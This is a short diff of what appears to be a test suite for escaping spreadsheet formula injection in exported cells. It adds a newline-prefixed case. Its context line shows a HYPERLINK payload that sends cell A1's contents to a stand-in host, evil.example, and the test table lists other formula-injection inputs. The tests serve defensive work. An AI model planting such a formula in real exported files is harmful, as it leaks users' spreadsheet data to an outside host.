@@ -28,6 +28,7 @@ PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
         ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
         ("Jamie", "Jamie"),
         ("O'Neil = friend", "O'Neil = friend"),
         (None, ""),
